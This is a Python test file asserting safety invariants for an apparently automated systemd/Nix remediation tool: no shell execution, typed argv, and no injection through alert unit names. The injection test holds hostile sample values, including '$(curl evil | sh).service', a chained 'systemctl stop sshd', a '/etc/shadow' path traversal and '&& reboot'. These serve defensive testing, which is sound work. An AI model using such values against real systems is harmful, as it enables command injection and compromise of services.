"""DESIGN.md safety invariants that are properties of the whole code base.

The others are proven where their mechanism lives (each test name says which):
  2 risk from policy ............ tests/test_policy.py::test_invariant_2_*
  3 protected units ............. tests/test_policy.py::test_invariant_3_*, and
      tests/test_executor_systemd.py::test_protected_unit_refused_before_any_dbus_call
  4 autonomy matrix ............. tests/test_policy.py::test_invariant_4_*
  5 approvals re-judged, once ... tests/test_policy.py::test_invariant_5_*,
                                  tests/test_store.py::test_invariant_5_*,
                                  tests/test_remediate.py::test_invariant_5_*
  6 intent before side effect ... tests/test_store.py::test_invariant_6_*
  7 breaker persists ............ tests/test_policy.py::test_invariant_7_*,
                                  tests/test_remediate.py::test_invariant_7_*
  10 audit before the next ...... tests/test_remediate.py::test_invariant_10_*
  14 trust toward safety only ... tests/test_learn.py::test_invariant_14_*, and
      tests/test_learn_operator.py (suppression and per-action trust on real systemd)
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from macha_obs.execute.diagnostics import diagnostic_argv
from macha_obs.execute.journal import vacuum_argv
from macha_obs.execute.nix import nix_argv
from macha_obs.execute.privileged import instance_for
from macha_obs.models import (
    ACTION_ADAPTER,
    Alert,
    JournalTail,
    JournalVacuum,
    NixGc,
    NixRebuild,
    NixRollback,
)

PACKAGE = Path(__file__).resolve().parent.parent / "macha_obs"
SAFE_ARG = re.compile(r"^[A-Za-z0-9@:._=/\\-]+$")


def _calls(tree: ast.AST) -> list[ast.Call]:
    return [node for node in ast.walk(tree) if isinstance(node, ast.Call)]


def _name(node: ast.expr) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_name(node.value)}.{node.attr}"
    if isinstance(node, ast.Name):
        return node.id
    return ""


@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda p: p.name)
def test_invariant_1_no_shell_anywhere(path: Path) -> None:
    tree = ast.parse(path.read_text(), filename=str(path))
    for call in _calls(tree):
        name = _name(call.func)
        assert name not in {
            "os.system",
            "os.popen",
            "subprocess.getoutput",
            "subprocess.getstatusoutput",
        }, f"{path}:{call.lineno} {name}"
        for kw in call.keywords:
            if kw.arg == "shell":
                assert isinstance(kw.value, ast.Constant), f"{path}:{call.lineno}"
                assert kw.value.value is False, f"{path}:{call.lineno}: shell=True"
        if name.startswith("subprocess.") and call.args:
            # argv is a list/tuple (or a name bound to one), never a string to be parsed
            assert not isinstance(call.args[0], ast.Constant | ast.JoinedStr | ast.BinOp), (
                f"{path}:{call.lineno}: {name} with a command string"
            )


PRIVILEGED = st.one_of(
    st.builds(NixGc, older_than_days=st.none() | st.integers(1, 3650)),
    st.builds(NixRebuild, mode=st.sampled_from(["dry-build", "test", "switch", "boot"])),
    st.just(NixRollback()),
)


@given(PRIVILEGED, st.integers(16, 1_000_000))
def test_invariant_1_argv_is_built_from_typed_fields_only(
    action: NixGc | NixRebuild | NixRollback, mb: int
) -> None:
    for arg in [
        *nix_argv(action),
        *vacuum_argv(JournalVacuum(max_size_mb=mb)),
        instance_for(action),
    ]:
        assert SAFE_ARG.fullmatch(arg), arg


def test_invariant_1_actions_have_no_field_for_a_command() -> None:
    schema = str(ACTION_ADAPTER.json_schema())
    for word in ("argv", "command", "cmd", "shell", "script", "exec", "flake", "url"):
        assert f"'{word}'" not in schema, word


@pytest.mark.parametrize(
    "hostile",
    [
        "nginx.service; systemctl stop sshd",
        "$(curl evil | sh).service",
        "nginx.service\nExecStart=/bin/sh",
        "../../../etc/shadow",
        "nginx.service && reboot",
    ],
)
def test_invariant_9_alert_text_reaches_argv_only_as_a_valid_unit_name(hostile: str) -> None:
    alert = Alert.model_validate(
        {
            "status": "firing",
            "labels": {"alertname": "UnitFailed", "unit": hostile},
            "startsAt": "2026-11-25T00:00:00Z",
        }
    )
    assert alert.unit is None  # never becomes a unit, so never an action target
    with pytest.raises(ValueError, match="unit"):
        JournalTail(unit=hostile)


def test_invariant_9_valid_unit_name_is_the_only_free_argv_element() -> None:
    argv = diagnostic_argv(JournalTail(unit="nginx.service", lines=5))
    assert argv is not None
    assert [
        a for a in argv if a not in {"journalctl", "--no-pager", "-o", "short-iso", "-n", "-u", "5"}
    ] == ["nginx.service"]


def test_invariant_14_no_code_grants_trust_only_a_persons_config_does() -> None:
    """`trusted_actions` is read (policy, learn) and validated (config); the one place
    code sets it is the shadow judgement, which clears it. Nothing writes a config file:
    `macha-obs learn` prints the line for a person to add."""
    setters: list[str] = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Dict):
                for key, value in zip(node.keys, node.values, strict=True):
                    if isinstance(key, ast.Constant) and key.value == "trusted_actions":
                        cleared = isinstance(value, ast.Tuple) and not value.elts
                        setters.append(f"{path.name}:{'cleared' if cleared else 'SET'}")
            if isinstance(node, ast.keyword) and node.arg == "trusted_actions":
                setters.append(f"{path.name}:SET")
            stored = isinstance(getattr(node, "ctx", None), ast.Store)
            if isinstance(node, ast.Attribute) and node.attr == "trusted_actions" and stored:
                setters.append(f"{path.name}:SET")
    assert setters == ["judge.py:cleared"]  # macha_obs/policy/judge.py
